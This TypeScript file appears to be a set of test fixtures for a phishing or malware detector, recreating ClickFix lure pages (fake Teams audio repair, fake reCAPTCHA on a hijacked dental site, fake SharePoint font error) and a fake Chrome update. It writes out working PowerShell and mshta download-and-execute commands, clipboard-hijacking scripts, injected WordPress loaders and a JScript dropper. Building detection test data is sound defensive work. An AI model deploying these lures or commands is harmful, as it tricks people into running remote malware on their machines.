import type { Entry } from '../entry.js';
import { doc, jsRoute, pngRoute, fileRoute, wpPage, b64 } from '../parts/t-kit.js';
import { zip } from '../parts/e-bin.js';

// Reported by employees: ClickFix "fix it yourself" pages and a fake browser update on a compromised site — blind split.

const tfHost = 'teams-audio-support.com';
const wcHost = 'www.riversidedentalcare.com';
const spHost = 'hartwell-eng.sharepoint-viewer.online';
const cuHost = 'www.bluefinmarinerepair.com';

const tfCmd = `powershell -w hidden -nop -c "$u='https://teams-audio-support.com/drv/rtk.ps1';iex (New-Object Net.WebClient).DownloadString($u)" # Teams Audio Driver Repair ID 7741`;
const wcCmd = `cmd /c start /min mshta https://cdn-jsdelivery.cloud/v/8832.hta  & REM  I am not a robot - reCAPTCHA Verification ID: 4417`;
const spCmd = `powershell -ep bypass -c "irm https://sp-fixtool.site/doc/render | iex"`;

const jsUpdate = `// Chrome Update 131.0.6778.86
var sh=new ActiveXObject("WScript.Shell");var fs=new ActiveXObject("Scripting.FileSystemObject");
var t=sh.ExpandEnvironmentStrings("%TEMP%")+"\\\\cu131.ps1";
var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","https://update-chromecdn.live/gate?i=131",false);x.send();
var f=fs.CreateTextFile(t,true);f.Write(x.responseText);f.Close();
sh.Run("powershell -ep bypass -w hidden -f \\""+t+"\\"",0,false);`;

export const entries: Entry[] = [
  {
    id: 't-cf-teams-audio-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${tfHost}/meeting/join?m=19%3Ameeting_NTg1&tid=hartwell`,
    body: doc(
      'Microsoft Teams',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#1f1f1f;color:#fff}
.v{display:grid;grid-template-columns:1fr 1fr;gap:8px;padding:8px;height:70vh}.v div{background:#2d2d2d;border-radius:6px;display:flex;align-items:flex-end;padding:10px;font-size:13px}
.bar{display:flex;justify-content:center;gap:14px;padding:12px}.bar span{background:#3d3d3d;padding:10px 16px;border-radius:4px}
.m{position:fixed;inset:0;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center}
.d{background:#fff;color:#242424;width:520px;border-radius:8px;padding:26px}.d code{display:block;background:#f3f3f3;padding:10px;font-size:12px;word-break:break-all;margin:10px 0}
.k{display:inline-block;border:1px solid #999;border-bottom-width:3px;border-radius:4px;padding:1px 7px;font-family:monospace}
.d button{background:#5b5fc7;color:#fff;border:0;padding:10px 20px;border-radius:4px;cursor:pointer}</style>`,
      `<div class="v"><div>Priya Natarajan</div><div>Tom Becker (Cascade)</div><div>Ana Lima</div><div>You</div></div>
<div class="bar"><span>&#127908; Mic</span><span>&#127909; Camera</span><span>&#128172; Chat</span><span style="background:#c4314b">Leave</span></div>
<div class="m"><div class="d"><h3 style="margin-top:0">&#128264; Microphone and speaker not detected</h3>
<p style="font-size:14px">Teams could not access your audio device (error 0x80070005: driver blocked). Other participants cannot hear you. Run the audio repair to fix it:</p>
<ol style="font-size:14px;line-height:1.9"><li>Click <b>Copy fix</b> below.</li><li>Press <span class="k">Win</span> + <span class="k">R</span>.</li><li>Press <span class="k">Ctrl</span> + <span class="k">V</span>, then <span class="k">Enter</span>.</li><li>Rejoin the meeting.</li></ol>
<button id="cp">Copy fix</button> <span id="ok" style="font-size:13px;color:#0b6a0b"></span></div></div>
<script>
var c=atob('${b64(tfCmd)}');
function cp(){navigator.clipboard.writeText(c).then(function(){document.getElementById('ok').textContent='Copied! Now press Win+R.'}).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('ok').textContent='Copied!'})}
document.getElementById('cp').onclick=cp;document.addEventListener('click',cp,{once:true});
</script>`,
    ),
  },
  {
    id: 't-cf-wp-captcha-run',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${wcHost}/patient-forms/`,
    body: wpPage({
      host: wcHost,
      biz: 'Riverside Dental Care',
      tagline: 'Family &amp; Cosmetic Dentistry since 1998',
      title: 'Patient Forms',
      color: '#1f7a8c',
      content: `<h1>Patient Forms</h1><p>Save time at your first visit by completing your paperwork online. Please bring your insurance card and a photo ID.</p><ul><li><a href="#">New Patient Registration (PDF)</a></li><li><a href="#">Medical History Update</a></li><li><a href="#">HIPAA Acknowledgement</a></li><li><a href="#">Financial Policy</a></li></ul><p>Questions? Call our front desk at (541) 555-0148.</p>`,
      phone: '(541) 555-0148',
      address: '220 River Rd, Eugene, OR 97404',
      injected: `<script src="https://${wcHost}/wp-content/plugins/wp-ctcache/assets/cache.min.js?ver=3.1"></script>`,
    }),
    routes: {
      [`${wcHost}/wp-content/plugins/wp-ctcache/assets/cache.min.js`]: jsRoute(`(function(){if(document.cookie.indexOf('wpcv=1')>-1)return;
var c=${JSON.stringify(wcCmd)};
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Roboto,Arial,sans-serif;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="width:340px;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.1);padding:14px"><div style="display:flex;align-items:center;gap:12px"><div id="cb" style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer;background:#fff"></div><span style="font-size:14px">I\\'m not a robot</span><span style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Privacy - Terms</span></div>'+
'<div id="st" style="display:none;font-size:13px;margin-top:14px;line-height:1.7"><b>Verification steps</b><br>1. Press &amp; hold the Windows Key + R<br>2. In the verification window, press Ctrl + V<br>3. Press Enter on your keyboard to finish<br><span style="color:#777">You will observe and agree: &#9989; "I am not a robot - reCAPTCHA Verification ID: 4417"</span></div></div>';
document.body.appendChild(o);
o.querySelector('#cb').onclick=function(){navigator.clipboard.writeText(c).catch(function(){});this.style.borderColor='#1a73e8';o.querySelector('#st').style.display='block'};})();`),
    },
  },
  {
    id: 't-cf-sharepoint-render-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${spHost}/:w:/r/sites/Projects/Doc.aspx?sourcedoc=%7B4A2F%7D&file=Site_Survey_Report.docx`,
    body: doc(
      'Site_Survey_Report.docx',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.t{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}
.p{max-width:780px;margin:20px auto;background:#fff;height:80vh;box-shadow:0 0 4px rgba(0,0,0,.15);padding:60px;color:#bbb}
.e{position:fixed;top:30%;left:50%;transform:translateX(-50%);width:500px;background:#fff;border:1px solid #ddd;box-shadow:0 8px 30px rgba(0,0,0,.2);padding:24px}
.e pre{background:#f3f2f1;padding:10px;font-size:12px;white-space:pre-wrap}.e button{background:#185abd;color:#fff;border:0;padding:9px 18px;cursor:pointer}</style>`,
      `<div class="t">Word &nbsp;&middot;&nbsp; Site_Survey_Report.docx &nbsp;&middot;&nbsp; Saved to SharePoint</div>
<div class="p">Loading document&hellip;</div>
<div class="e"><b style="color:#a4262c">&#9888; Error: "Word Online" extension is not installed</b>
<p style="font-size:14px">The document uses fonts that are not available in your browser. To display it correctly, install the Word Online font pack:</p>
<p style="font-size:14px">1. Click <b>How to fix</b> &nbsp;2. Open <b>Windows PowerShell (Admin)</b> (right-click Start)&nbsp; 3. Right-click to paste and press Enter &nbsp;4. Refresh this page</p>
<button id="f">How to fix</button><pre id="c" hidden></pre></div>
<script>document.getElementById('f').onclick=function(){var c=${JSON.stringify(spCmd)};navigator.clipboard.writeText(c);var p=document.getElementById('c');p.hidden=false;p.textContent='Copied to clipboard. Paste into PowerShell and press Enter.'};</script>`,
    ),
  },
  {
    id: 't-mw-chrome-update-wp',
    label: 'malware',
    kind: 'fake-browser-update',
    url: `https://${cuHost}/services/outboard-engine-repair/`,
    body: wpPage({
      host: cuHost,
      biz: 'Bluefin Marine Repair',
      tagline: 'Outboard &amp; inboard service &middot; Tampa Bay',
      title: 'Outboard Engine Repair',
      color: '#0b3c5d',
      content: `<h1>Outboard Engine Repair</h1><p>We service Yamaha, Mercury, Suzuki and Honda outboards from 2.5 to 450 HP. Mobile service is available at marinas across Tampa Bay.</p><h3>Our services</h3><ul><li>100-hour service &amp; winterization</li><li>Lower unit rebuilds</li><li>Fuel system cleaning</li><li>Diagnostics with factory software</li></ul><p><a class="wp-block-button__link" href="/contact/">Book a service</a></p>`,
      phone: '(813) 555-0116',
      address: '4410 W Gandy Blvd, Tampa, FL 33611',
      injected: `<script>(function(){var s=document.createElement('script');s.src='/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.8.1&u='+(navigator.userAgent.indexOf('Windows')>-1?'w':'o');document.head.appendChild(s)})();</script>`,
    }),
    routes: {
      [`${cuHost}/wp-content/themes/astra/assets/js/minified/frontend.min.js`]: jsRoute(`(function(){if(!/Chrome\\//.test(navigator.userAgent))return;
var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';f.src='/wp-content/uploads/2023/11/chrome/index.html';document.body.appendChild(f);})();`),
      [`${cuHost}/wp-content/uploads/2023/11/chrome/index.html`]: {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: doc(
          'Update Chrome',
          `<style>body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;color:#202124;text-align:center}.w{max-width:640px;margin:10vh auto}.b{background:#1a73e8;color:#fff;border:0;padding:12px 28px;border-radius:4px;font-size:15px;cursor:pointer;text-decoration:none}
.lg{width:80px;height:80px;border-radius:50%;margin:0 auto 20px;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0);position:relative}.lg:after{content:"";position:absolute;inset:24px;border-radius:50%;background:#4285f4;border:5px solid #fff}</style>`,
          `<div class="w"><div class="lg"></div><h1>Your version of Chrome is out of date</h1><p>A critical security update is required to keep browsing safely. This site uses features that your current version (120) doesn't support.</p>
<p><a class="b" href="/wp-content/uploads/2023/11/chrome/Chrome.Update.131.0.zip" download>Update Chrome</a></p><p style="font-size:13px;color:#5f6368">Chrome will restart after the update. Your tabs will be restored.</p></div>`,
        ),
      },
      [`${cuHost}/wp-content/uploads/2023/11/chrome/Chrome.Update.131.0.zip`]: fileRoute(zip([{ name: 'Chrome.Update.131.0.6778.js', data: jsUpdate }]), 'application/zip', 'Chrome.Update.131.0.zip'),
    },
  },
];
